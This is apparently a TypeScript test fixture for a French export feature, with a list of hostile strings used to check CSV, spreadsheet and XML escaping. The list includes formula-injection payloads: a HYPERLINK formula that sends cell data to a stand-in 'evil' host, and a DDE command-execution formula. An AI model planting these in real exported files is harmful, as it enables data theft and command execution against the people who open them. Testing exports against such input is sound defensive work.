import type { Cell, ExportTable } from "@/lib/exports/table/export-table";
import messages from "@/lib/i18n/messages/fr.json" with { type: "json" };
import type { PageMessages } from "@/lib/i18n/translator";

/** The French messages, as an export takes them. */
export const FRENCH: PageMessages = { locale: "fr", messages };

/** Provenance of an exported file. */
export const PROVENANCE = {
  organisation: "Biwo Achiv & Fils",
  timeZone: "America/Port-au-Prince",
  at: "2025-11-25T09:41:07.000-05:00",
  by: "Fedanoir (Fedanoir)",
};

/** Texts that users, browsers and attackers write into names, notes and user agents. */
export const HOSTILE = [
  "Anne-Lise Rosmàn, sekretè prensipal",
  ...["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠x"],
  ...['=HYPERLINK("http://evil/?"&A1)', "=cmd|'/c calc'!A1", "Jean;=1+1", "Jean,@x", "'=1", "''", "x'"],
  ...['say "hi"', '"', '""', "two\nlines", "two\r\nlines", ";", ",", "\t", "a\tb", " spaces  inside "],
  ...["<b>&amp;</b>", "</c></row></sheetData>", "]]>", "<!--", "&#0;", "_x0041_", "_x005F_"],
  ...[
    "\u202eevil\u202c",
    "\u2066x\u2069",
    "a\u200bb",
    "👩‍👩‍👧 famille",
    "中文",
    "שלום",
    "مرحبا",
    "e\u0301te\u0301",
  ],
  ...["\u0000nul", "\u0001\u0008\u000b\u000c\u001f", "\ufffe\uffff", "\ud83d half", "x".repeat(512)],
];

/**
 * Returns a list of five columns: text, instant, duration, count, and a text that is left out of a PDF.
 *
 * @param batch - number of rows in each batch
 */
export function tableOf(rows: Cell[][], batch = 7): ExportTable {
  return {
    list: "sessions",
    title: "Historique des connexions",
    criteria: [{ label: "Recherche", value: "=1+1" }],
    recorded: {},
    subjectId: null,
    now: new Date("2025-11-25T14:41:07Z"),
    columns: [
      { heading: "Utilisateur", kind: "text", width: 30 },
      { heading: "Connexion", kind: "instant", width: 20 },
      { heading: "Durée", kind: "duration", width: 12 },
      { heading: "Sessions", kind: "count", width: 10 },
      { heading: "Agent", kind: "text", width: 40, omitFromPdf: true },
    ],
    count: async () => rows.length,
    async *rows() {
      for (let at = 0; at < rows.length; at += batch) yield rows.slice(at, at + batch);
    },
    totals: () => [{ label: "Somme des durées", kind: "duration", value: 93_784_999 }],
  };
}

/** Returns a row for each text. */
export function rowsOf(texts: string[]): Cell[][] {
  return texts.map((text, n) => [text, "2025-11-11T14:32:15.987-05:00", 93_784_999, n, text]);
}

/** Reads all chunks into one buffer. */
export async function bytesOf(chunks: AsyncIterable<Uint8Array>): Promise<Buffer> {
  const all: Uint8Array[] = [];
  for await (const chunk of chunks) all.push(chunk);
  return Buffer.concat(all);
}

// biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what it must match
const NOT_IN_XML = /[\0-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]|\p{Cs}/gu;

/** Returns the text as XML can hold it: characters that XML forbids become U+FFFD. */
export const asXml = (text: string) => text.replaceAll(NOT_IN_XML, "\ufffd");
